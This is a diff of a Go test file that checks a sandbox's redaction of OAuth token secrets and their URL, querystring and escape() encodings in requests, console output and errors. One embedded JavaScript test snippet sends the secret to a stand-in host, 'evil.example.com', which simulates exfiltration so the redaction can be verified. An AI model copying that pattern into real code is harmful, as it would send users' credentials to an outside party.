@@ -50,17 +50,80 @@ func TestEncodedSecretsAreRedacted(t *testing.T) {
 	assert.Contains(t, res.Error.Message, "[REDACTED]")
 }
 
-// TestSecretFormsCached: the cached forms of a long secret are its own, run
-// after run, and the same as computing them afresh.
+// TestSecretFormsCached: each secret's encoded forms, written out by hand
+// (the JavaScript ones checked under node: encodeURIComponent, encodeURI,
+// escape), in secretForms's order (_encodeData, QueryEscape, path-escaped,
+// encodeURIComponent, encodeURI, escape; a form equal to the secret or to an
+// earlier one left out), the same run after run whether cached or not.
 func TestSecretFormsCached(t *testing.T) {
-	pem := string(bridge.TestPrivateKeyPEM)
-	other := strings.Repeat("a/b+c=d ", 10)
-	want := append([]string{pem, other, "tok/secret"}, computeEncodedForms(pem)...)
-	want = append(want, computeEncodedForms(other)...)
-	want = append(want, computeEncodedForms("tok/secret")...)
-	for range 3 {
-		assert.Equal(t, want, secretForms([]string{pem, other, "tok/secret"}))
+	rep := func(s string) string { return strings.Repeat(s, 10) }
+	cases := []struct {
+		secret string
+		forms  []string
+	}{
+		{"a/b+c=d ", []string{"a%2Fb%2Bc%3Dd%20", "a%2Fb%2Bc%3Dd+", "a%2Fb%2Bc=d%20", "a/b+c=d%20", "a/b+c%3Dd%20"}},
+		{"tok/secret", []string{"tok%2Fsecret"}},
+		{"a/b+c=d \u00e9\u2713!", []string{"a%2Fb%2Bc%3Dd%20%C3%A9%E2%9C%93%21", "a%2Fb%2Bc%3Dd+%C3%A9%E2%9C%93%21",
+			"a%2Fb%2Bc=d%20%C3%A9%E2%9C%93%21", "a%2Fb%2Bc%3Dd%20%C3%A9%E2%9C%93!", "a/b+c=d%20%C3%A9%E2%9C%93!",
+			"a/b+c%3Dd%20%E9%u2713%21"}},
+		// long enough to be cached
+		{rep("a/b+c=d "), []string{rep("a%2Fb%2Bc%3Dd%20"), rep("a%2Fb%2Bc%3Dd+"), rep("a%2Fb%2Bc=d%20"),
+			rep("a/b+c=d%20"), rep("a/b+c%3Dd%20")}},
+		// a PEM-like secret: the whole, then each line that is not a ----- line
+		{"-----BEGIN X-----\nab/c+d=\n-----END X-----", []string{
+			"-----BEGIN%20X-----%0Aab%2Fc%2Bd%3D%0A-----END%20X-----", "-----BEGIN+X-----%0Aab%2Fc%2Bd%3D%0A-----END+X-----",
+			"-----BEGIN%20X-----%0Aab%2Fc%2Bd=%0A-----END%20X-----", "-----BEGIN%20X-----%0Aab/c+d=%0A-----END%20X-----",
+			"-----BEGIN%20X-----%0Aab/c+d%3D%0A-----END%20X-----",
+			"ab%2Fc%2Bd%3D", "ab%2Fc%2Bd=", "ab/c+d%3D"}},
 	}
-	assert.Contains(t, want, url.QueryEscape(other))
-	assert.Contains(t, want, encodeData("tok/secret"))
+	var secrets, want []string
+	for _, c := range cases {
+		secrets = append(secrets, c.secret)
+	}
+	want = append(want, secrets...)
+	for _, c := range cases {
+		want = append(want, c.forms...)
+	}
+	for range 3 {
+		assert.Equal(t, want, secretForms(secrets))
+	}
+}
+
+// TestSecretInURLRedacted: a token secret with "/", "+", "=" and a space,
+// put raw and encoded into the path and query of requests (request, node-
+// oauth, a blocked host), into console lines and into the error, shows as
+// [REDACTED] everywhere in the Result and in none of its encodings.
+func TestSecretInURLRedacted(t *testing.T) {
+	srv := fakeJIRA(t, serverAnswers())
+	opts := runOpts(srv.URL)
+	opts.TokenSecret = "a/b+c=d e"
+	res := run(t, compileJS(t, `function(token, tokenSecret, ctx, cb) {
+  var request = require('request');
+  var OAuth = require('oauth').OAuth;
+  var o = new OAuth('', '', 'k', ctx.client_secret, '1.0', null, 'RSA-SHA1');
+  console.log(tokenSecret, encodeURIComponent(tokenSecret), escape(tokenSecret), o._encodeData(tokenSecret), encodeURI(tokenSecret));
+  request(ctx.requestTokenURL + '/' + tokenSecret + '/' + encodeURIComponent(tokenSecret) + '?s=' + tokenSecret + '&e=' + encodeURIComponent(tokenSecret), function(err) {
+    o.get(ctx.requestTokenURL + '/' + encodeURI(tokenSecret) + '?s=' + tokenSecret + '&e=' + o._encodeData(tokenSecret), token, tokenSecret, function() {
+      request({url: 'http://evil.example.com/' + tokenSecret, qs: {s: tokenSecret}}, function(err2) {
+        cb(new Error(String(err2) + ' ' + escape(tokenSecret) + ' ' + encodeURIComponent(tokenSecret)));
+      });
+    });
+  });
+}`), opts)
+	require.Equal(t, KindCallback, res.Outcome, "%+v", res.Error)
+	require.Len(t, res.Requests, 3)
+	assert.Equal(t, srv.URL+"/plugins/servlet/oauth/request-token/[REDACTED]/[REDACTED]?s=[REDACTED]&e=[REDACTED]", res.Requests[0].URL)
+	assert.Equal(t, srv.URL+"/plugins/servlet/oauth/request-token/[REDACTED]?s=[REDACTED]&e=[REDACTED]", res.Requests[1].URL)
+	assert.Equal(t, "http://evil.example.com/[REDACTED]?s=[REDACTED]", res.Requests[2].URL)
+	require.Len(t, res.Console, 1)
+	assert.Equal(t, "[REDACTED] [REDACTED] [REDACTED] [REDACTED] [REDACTED]", res.Console[0].Text)
+	assert.True(t, strings.HasSuffix(res.Error.Message, " [REDACTED] [REDACTED]"), res.Error.Message)
+	all, err := json.Marshal(res)
+	require.NoError(t, err)
+	// the secret and every encoding of it, by hand: raw, encodeURIComponent
+	// and _encodeData, querystring's +, path-escaped, encodeURI (and
+	// url.parse's auto-escaping), escape
+	for _, f := range []string{"a/b+c=d e", "a%2Fb%2Bc%3Dd%20e", "a%2Fb%2Bc%3Dd+e", "a%2Fb%2Bc=d%20e", "a/b+c=d%20e", "a/b+c%3Dd%20e"} {
+		assert.NotContains(t, string(all), f)
+	}
 }
